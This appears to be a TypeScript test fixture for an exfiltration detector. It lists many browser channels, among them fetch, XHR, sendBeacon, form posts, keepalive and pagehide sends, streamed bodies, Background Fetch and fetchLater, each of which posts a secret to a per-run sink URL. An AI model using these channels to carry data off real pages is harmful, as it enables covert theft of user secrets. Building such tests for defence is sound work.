import { type Attack, row, type Secret, variant } from '../attack.ts';

const JSON_TYPE = { 'content-type': 'application/json' };

/** A body as a page would send it. */
export function note(text: string): string {
  return JSON.stringify({ note: text });
}

/** A POST of the given body to this run's sink. */
export function post(secret: Secret, body: BodyInit, headers: Record<string, string> = JSON_TYPE): Promise<Response> {
  return fetch(`${secret.sink}post`, { method: 'POST', headers, body });
}

function bytes(text: string): Uint8Array<ArrayBuffer> {
  return new TextEncoder().encode(note(text));
}

function xhr(secret: Secret, body: XMLHttpRequestBodyInit, async = true): void {
  const request = new XMLHttpRequest();
  request.open('POST', `${secret.sink}xhr`, async);
  request.send(body);
}

function form(secret: Secret): HTMLFormElement {
  const made = document.createElement('form');
  made.method = 'post';
  made.action = `${secret.sink}form`;
  made.target = 'nowhere';
  const field = document.createElement('input');
  field.name = 'note';
  field.value = secret.text;
  const button = document.createElement('button');
  button.id = 'submit-form';
  button.textContent = 'Submit';
  made.append(field, button);
  document.body.append(made);
  return made;
}

function leave(): void {
  location.href = '/blank';
}

declare global {
  interface Window {
    fetchLater?: (url: string, init: RequestInit & { activateAfter: number }) => unknown;
  }
}

/** Bodies of requests, of every kind that a page can make. */
export const BODIES: readonly Attack[] = [
  row('1', 'fetch, string body', (secret) => post(secret, note(secret.text))),
  row('2', 'fetch of a Request', (secret) =>
    fetch(new Request(`${secret.sink}request`, { method: 'POST', headers: JSON_TYPE, body: note(secret.text) })),
  ),
  row('3', 'fetch, Blob body', (secret) => post(secret, new Blob([note(secret.text)], { type: 'application/json' }), {})),
  row('4', 'fetch, FormData with a File', (secret) => {
    const data = new FormData();
    data.append('file', new File([secret.text], 'notes.txt', { type: 'text/plain' }));
    return post(secret, data, {});
  }),
  row('5', 'fetch, view into a larger buffer', (secret) => {
    const plain = bytes(secret.text);
    const buffer = new ArrayBuffer(plain.length + 16);
    new Uint8Array(buffer, 8).set(plain);
    return post(secret, new DataView(buffer, 8, plain.length));
  }),
  row('6', 'XHR, asynchronous', (secret) => xhr(secret, note(secret.text))),
  variant('6b', 'XHR, Blob body', (secret) => xhr(secret, new Blob([note(secret.text)]))),
  row('7', 'XHR, synchronous', (secret) => xhr(secret, note(secret.text), false)),
  row('8', 'sendBeacon', (secret) => navigator.sendBeacon(`${secret.sink}beacon`, note(secret.text))),
  variant('8b', 'sendBeacon of a Blob while the page goes away', (secret) => {
    addEventListener('pagehide', () => navigator.sendBeacon(`${secret.sink}beacon`, new Blob([note(secret.text)])));
    leave();
  }),
  row('10', 'form POST into a hidden frame', (secret) => form(secret).submit()),
  variant('10b', 'form POST, requestSubmit', (secret) => form(secret).requestSubmit()),
  variant('10c', 'form POST, a real click', (secret) => {
    form(secret);
    return '#submit-form';
  }),
  row('38', 'keepalive fetch while the page goes away', (secret) => {
    addEventListener('pagehide', () => {
      void fetch(`${secret.sink}keepalive`, { method: 'POST', body: note(secret.text), keepalive: true });
    });
    leave();
  }),
  row('40', 'URLSearchParams body', (secret) => post(secret, new URLSearchParams({ note: secret.text }), {})),
  row('41', 'cloned Request of a subclass', (secret) => {
    class Own extends Request {}
    const request = new Own(`${secret.sink}clone`, { method: 'POST', headers: JSON_TYPE, body: note(secret.text) });
    return fetch(request.clone());
  }),
  row('71', 'fetch, stream that is cut inside the value', (secret) => {
    const plain = bytes(secret.text);
    const body = new ReadableStream({
      async start(controller) {
        for (let at = 0; at < plain.length; at += 12) {
          controller.enqueue(plain.slice(at, at + 12));
          await new Promise((resolve) => setTimeout(resolve, 5));
        }
        controller.close();
      },
    });
    const init = { method: 'POST', headers: JSON_TYPE, body, duplex: 'half' };
    return fetch(`${secret.sink}stream`, init);
  }),
  row('72', 'Background Fetch, body', async (secret) => {
    const registration = await navigator.serviceWorker.register(`${secret.sink}sw/worker.js`);
    await new Promise((resolve) => setTimeout(resolve, 300));
    const { backgroundFetch } = registration as unknown as {
      backgroundFetch?: { fetch(id: string, requests: Request[]): Promise<unknown> };
    };
    await backgroundFetch?.fetch('note', [new Request(`${secret.sink}background`, { method: 'POST', body: note(secret.text) })]);
  }),
  variant('8c', 'sendBeacon of URLSearchParams', (secret) =>
    navigator.sendBeacon(`${secret.sink}beacon`, new URLSearchParams({ note: secret.text })),
  ),
  row('43', 'fetchLater', (secret) => {
    window.fetchLater?.(`${secret.sink}later`, { method: 'POST', headers: JSON_TYPE, body: note(secret.text), activateAfter: 0 });
  }),
];
